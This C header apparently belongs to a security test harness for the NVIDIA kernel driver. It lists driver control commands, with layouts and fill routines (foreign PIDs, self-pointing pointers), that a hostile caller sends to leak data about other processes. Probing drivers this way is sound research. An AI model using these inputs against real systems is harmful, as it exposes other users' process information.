/* SPDX-License-Identifier: GPL-2.0 OR MIT */
/*
 * Every control with process ids, in each of its layouts, as a hostile caller sends it (nvattack, nvtaint). `foreign` has the queried PIDs. A
 * program that includes this file has one session, on one open file.
 */
#ifndef NVROWS_H
#define NVROWS_H

#include "nvrm.h"

#define BUFFER 65536
#define HARMLESS 0x20801303 /* FB_INFO_V2 takes any size */
#define GET_PIDS 0x2080018d

enum object { SUBDEVICE, DEVICE, CLIENT, PROFILER };

/* A query of given processes leaks figures; every other control leaks numbers. */
struct row {
	const char *name;
	uint32_t cmd, size;
	enum object object;
	void (*fill)(uint8_t *params, const struct row *row);
	unsigned figures; /* offset of a u64 that is not 0 in an answer about a foreign process; 0: look for numbers */
};

static uint8_t *inner; /* the target of a pointer in the parameters */
static uint32_t foreign[64];
static unsigned foreign_count;
static struct nv_session session;
static uint32_t profiler;
static int ctl = -1;

static void fill_pids(uint8_t *p, const struct row *row)
{
	(void)row;
	put32(p, 4, 0xc3c0);
}

static void fill_memory(uint8_t *p, const struct row *row)
{
	unsigned i;

	put32(p, 0, foreign_count);
	for (i = 0; i < foreign_count; i++)
		put32(p, 8 + i * (row->size - 8) / 200, foreign[i]);
}

static void fill_samples(uint8_t *p, const struct row *row)
{
	p[0] = 2;
	put32(p, 4, row->size - 16);
}

static void fill_samples1(uint8_t *p, const struct row *row)
{
	(void)row;
	p[0] = 2;
	put32(p, 4, 47200);
	put64(p, 16, (uintptr_t)inner);
}

static void fill_gpu(uint8_t *p, const struct row *row)
{
	(void)row;
	put32(p, 0, 1 << 8);
}

static void fill_record(uint8_t *p, const struct row *row)
{
	(void)row;
	put32(p, 0, 1 << 8);
	put32(p, 4, foreign[0]);
}

static void fill_room(uint8_t *p, const struct row *row)
{
	put32(p, 0, 512);
	if (row->size == 16)
		put64(p, 8, (uintptr_t)inner);
}

/* The buffer behind the pointer is where the parameters are. */
static void fill_samples1_here(uint8_t *p, const struct row *row)
{
	fill_samples1(p, row);
	put64(p, 16, (uintptr_t)p);
}

static void fill_room_here(uint8_t *p, const struct row *row)
{
	fill_room(p, row);
	put64(p, 8, (uintptr_t)p);
}

static void fill_nothing(uint8_t *p, const struct row *row)
{
	(void)p;
	(void)row;
}

static const struct row rows[] = {
	{ "pids", GET_PIDS, 3812, SUBDEVICE, fill_pids, 0 },
	{ "pids-old", 0x00800202, 3812, DEVICE, fill_pids, 0 },
	{ "memory", 0x2080018e, 14408, SUBDEVICE, fill_memory, 24 },
	{ "memory-450", 0x2080018e, 9608, SUBDEVICE, fill_memory, 24 },
	{ "memory-390", 0x00800203, 8008, DEVICE, fill_memory, 24 },
	{ "samples-570", 0x20802096, 55888, SUBDEVICE, fill_samples, 0 },
	{ "samples-550", 0x20802096, 50704, SUBDEVICE, fill_samples, 0 },
	{ "samples-515", 0x20802096, 34000, SUBDEVICE, fill_samples, 0 },
	{ "samples-460", 0x20802096, 47216, SUBDEVICE, fill_samples, 0 },
	{ "samples-pointed", 0x20802083, 24, SUBDEVICE, fill_samples1, 0 },
	{ "samples-in-place", 0x20802083, 24, SUBDEVICE, fill_samples1_here, 0 },
	{ "records", 0xb04, 16012, CLIENT, fill_gpu, 0 },
	{ "record", 0xb03, 48, CLIENT, fill_record, 32 },
	{ "encoder-pointed", 0x2080016e, 16, SUBDEVICE, fill_room, 0 },
	{ "encoder-in-place", 0x2080016e, 16, SUBDEVICE, fill_room_here, 0 },
	{ "encoder", 0x208001af, 16388, SUBDEVICE, fill_room, 0 },
	{ "capture", 0x2080017c, 13316, SUBDEVICE, fill_nothing, 0 },
	{ "profiler", 0x90cc0103, 12, PROFILER, fill_nothing, 0 },
};
#define ROWS (sizeof(rows) / sizeof(rows[0]))

static inline uint32_t handle(enum object object)
{
	switch (object) {
	case DEVICE: return session.device;
	case CLIENT: return session.client;
	case PROFILER: return profiler;
	default: return session.subdevice;
	}
}

static inline uint32_t harmless(enum object object)
{
	switch (object) {
	case DEVICE: return 0x00800289;
	case CLIENT: return 0x00000215;
	case PROFILER: return 0x90cc01ff;
	default: return HARMLESS;
	}
}

/* Opens the control device, and makes a client with its objects, and a profiler object if wanted. */
static inline void open_rows(const char *who, int with_profiler)
{
	int rc;

	ctl = nv_open_minor(255);
	nv_check(ctl >= 0, who, -errno);
	rc = nv_session_open(ctl, 0, &session);
	if (!rc && with_profiler)
		rc = nv_alloc(ctl, session.client, session.subdevice, &profiler, 0x90cc, NULL, 0);
	nv_must(who, rc);
}

#endif
